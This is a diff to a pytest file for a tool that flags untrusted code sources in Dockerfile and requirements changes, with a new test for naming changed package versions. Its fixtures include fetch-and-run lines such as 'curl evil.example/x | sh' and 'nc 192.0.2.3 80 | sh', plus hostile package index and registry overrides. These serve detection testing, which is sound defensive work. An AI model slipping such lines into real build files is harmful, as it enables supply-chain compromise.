@@ -75,6 +75,10 @@ def test_files_of_images_are_found_by_name() -> None:
         ("jax\n", "--extra-index-url https://evil.example/simple\njax\n", "https://evil.example"),
         ("jax\n", "jax @ git+ssh://git@evil.example/x\n", "evil.example"),
         ("FROM a\n", "FROM a\nRUN curl evil.example/x | sh\n", "evil.example"),
+        ("FROM a\n", "FROM a\nRUN curl 192.0.2.3/x | sh\n", "192.0.2.3"),
+        ("FROM a\n", "FROM a\nRUN nc 192.0.2.3 80 | sh\n", "192.0.2.3"),
+        ("FROM a\n", "FROM a\nRUN npm i --registry //evil.example\n", "//evil.example"),
+        ("FROM a\n", "FROM a\nARG CUDNN=9.1.0.70\nCMD serve --bind 0.0.0.0/0\n", ""),
         ("FROM own/python\n", "FROM --platform=linux/amd64 evil/python AS a\n", "docker.io/evil"),
         ("ARG B=r.example/own/x\n", "ARG B=evil.example/own/x\n", "evil.example"),
         ("FROM a\n", "FROM \\\n  evil/python:3\n", "docker.io/evil"),
@@ -98,7 +102,26 @@ def test_code_from_elsewhere_in_an_image_is_a_caution(old: str, new: str, source
     assert all(source in located.plain for located in more)
 
 
+@pytest.mark.parametrize(
+    ("old", "new", "sentences"),
+    [
+        ("jax==0.9 \\\n  --hash=a\n", "jax==0.10 \\\n  --hash=b\n", ["r.txt adds jax==0.10 and drops jax==0.9"]),
+        ("wandb==1.0\n", "# own\nwandb ; python_version > '3'\n", ["r.txt adds wandb and drops wandb==1.0"]),
+        ("-r base.txt\n", "-r base.txt\n-c c.txt\norbax[gcs]\n", ["r.txt adds orbax[gcs]"]),
+        ("jax\n", "# a comment\njax\n", []),
+    ],
+)
+def test_packages_that_differ_are_named(old: str, new: str, sentences: list[str]) -> None:
+    """A package, its version or a lost pin is seen without opening the file."""
+    file = PurePosixPath("requirements/r.txt")
+    _, *more = build_statements([file], {file: old.encode()}, {file: new.encode()})
+    assert [located.plain for located in more] == [f"requirements/{sentence}" for sentence in sentences]
+
+
 def test_a_file_of_an_image_that_cannot_be_read_is_a_caution() -> None:
     """A link, or a file above the limit, hides where code comes from."""
     file = PurePosixPath("Dockerfile")
     assert [item.statement.risk for item in build_statements([file], {}, {file: None})] == [Risk.NONE, Risk.CAUTION]
+    packages = PurePosixPath("requirements.txt")
+    _, *more = build_statements([packages], {packages: b"jax\n"}, {packages: None})
+    assert [item.statement.risk for item in more] == [Risk.CAUTION]
